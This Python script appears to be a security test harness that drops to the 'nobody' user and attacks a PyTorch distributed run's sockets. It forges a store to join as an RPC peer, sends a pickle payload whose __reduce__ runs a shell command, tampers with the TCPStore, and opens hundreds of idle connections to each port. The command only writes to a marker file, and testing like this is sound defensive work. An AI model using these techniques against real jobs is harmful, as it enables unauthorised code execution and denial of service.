"""Attack the sockets of a run as another user: `python attacker.py MARKER [HOST:]PORT...`, started by root.

Prints a JSON object for each port with the answers to an RPC peer and to a client of the store (none if the answer
ended the attacking process), and one for all ports. A command that the run executes for the attacker writes to MARKER.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  # another user may not be able to read it
import json
import os
import socket
import sys
import threading
import warnings
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from typing import Any, NamedTuple

import pytest

NOBODY = 65534
LIMIT_S = 8.0
IDLE = 400


def as_other_user(attack: Callable[[], Any]) -> Any:
    """Return what a function returns in a process of another user; its exceptions become their text."""
    if os.geteuid() != 0:
        pytest.skip("only root can be another user")
    reader, writer = os.pipe()
    if (pid := os.fork()) == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        try:
            found = attack()
        except BaseException as error:
            found = f"{type(error).__name__}: {error}"
        os.write(writer, json.dumps(found).encode())
        os._exit(0)
    os.close(writer)
    os.waitpid(pid, 0)
    with open(reader, "rb") as pipe:
        return json.loads(pipe.read())


class Payload:
    """Runs a command in the process that loads its pickle."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.system, (f"id -u >> {self.marker}",)


class Target(NamedTuple):
    """A socket of the run; without a host it is on this machine."""

    host: str
    port: int

    @classmethod
    def parse(cls, text: str) -> Target:
        host, _, port = text.rpartition(":")
        return cls(host or "127.0.0.1", int(port))


def connects(target: Target) -> bool:
    try:
        socket.create_connection(target, timeout=1.0).close()
    except OSError:
        return False
    return True


def use_store(target: Target, found: dict[str, Any]) -> None:
    """Read and change the store. Run it in a daemon thread: the client of TCPStore blocks beyond its timeout."""
    from torch.distributed import TCPStore

    try:
        store = TCPStore(*target, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        store.set("stranger", "changed")
        found["store"] = store.get("stranger").decode()
        found["keys"] = store.num_keys()
    except RuntimeError as error:
        found["store_error"] = str(error).splitlines()[0]


def call(target: Target, marker: str, found: dict[str, Any]) -> None:
    """Connect as an RPC peer: a forged store has the victim's port as the address of worker 0."""
    from torch.distributed import HashStore, Store, autograd, rpc
    from torch.distributed.rpc import api

    real = HashStore()

    class Forged(Store):
        def set(self, key: str, value: Any) -> None:
            real.set(key, value)

        def get(self, key: str) -> bytes:
            if key.endswith("addrs/victim"):
                return f"uv://{target.host}:{target.port}".encode()
            return b"victim" if key.endswith("names/0") else real.get(key)

        def compare_set(self, key: str, expected: str, desired: str) -> bytes:
            return real.compare_set(key, expected, desired)

        def add(self, key: str, amount: int) -> int:
            return real.add(key, amount)

        def wait(self, *_: Any) -> None:
            pass

    options = rpc.TensorPipeRpcBackendOptions(_transports=["uv"], rpc_timeout=LIMIT_S)
    forged = Forged()
    autograd._init(1)
    agent = rpc.TensorPipeAgent(forged, "stranger", 1, 2, options, {}, [])
    api._init_rpc_states(agent)
    try:
        rpc.rpc_sync("victim", len, (Payload(marker),), timeout=LIMIT_S)
    except RuntimeError as error:
        found["rpc_error"] = str(error).splitlines()[0]
    # An operator of TorchScript, which the victim executes without unpickling.
    import torch

    try:
        done = rpc.rpc_sync("victim", torch.add, (torch.ones(1), torch.ones(1)), timeout=LIMIT_S)
        found["builtin"] = done.tolist()
    except RuntimeError as error:
        found["builtin_error"] = str(error).splitlines()[0]


def attack(target: Target, marker: str) -> dict[str, Any]:
    found: dict[str, Any] = {"target": target}
    call(target, marker, found)  # first: TensorPipe stops listening when a connection ends before its handshake
    found["connects"] = connects(target)
    if found["connects"]:
        thread = threading.Thread(target=use_store, args=(target, found), daemon=True)
        thread.start()
        thread.join(LIMIT_S)
    return found


def open_idle_connections(targets: list[Target]) -> list[socket.socket]:
    """Open connections without sending data, up to IDLE for each port."""
    idle = []
    for target in targets:
        try:
            idle += [socket.create_connection(target, timeout=1.0) for _ in range(IDLE)]
        except OSError:
            continue
    return idle


def print_line(answer: dict[str, Any]) -> None:
    """Print an answer as one line in a single write, because the processes share their output."""
    os.write(1, f"\n{json.dumps(answer)}\n".encode())


def main(marker: str, targets: list[Target]) -> None:
    import torch.distributed.rpc  # noqa: F401  # before this process gives up the right to read it

    # Only root may be able to read the interpreter, so modules that are imported at first use are imported now.
    connects(Target("127.0.0.1", 1))
    import hpcdist.rank.rpc  # noqa: F401

    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    os.chdir("/")
    warnings.simplefilter("ignore")
    os.environ["TP_SOCKET_IFNAME"] = "lo" if targets[0].host == "127.0.0.1" else "eth0"
    children = []
    for target in targets:
        if (child := os.fork()) == 0:  # RPC can be started only once per process
            print_line(attack(target, marker))
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    # At once: a socket that drops packets takes the whole time limit.
    with ThreadPoolExecutor(len(targets)) as pool:
        reachable = [target for target, done in zip(targets, pool.map(connects, targets), strict=True) if done]
    print_line({"reachable": reachable, "idle": len(open_idle_connections(reachable))})
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], [Target.parse(text) for text in sys.argv[2:]])
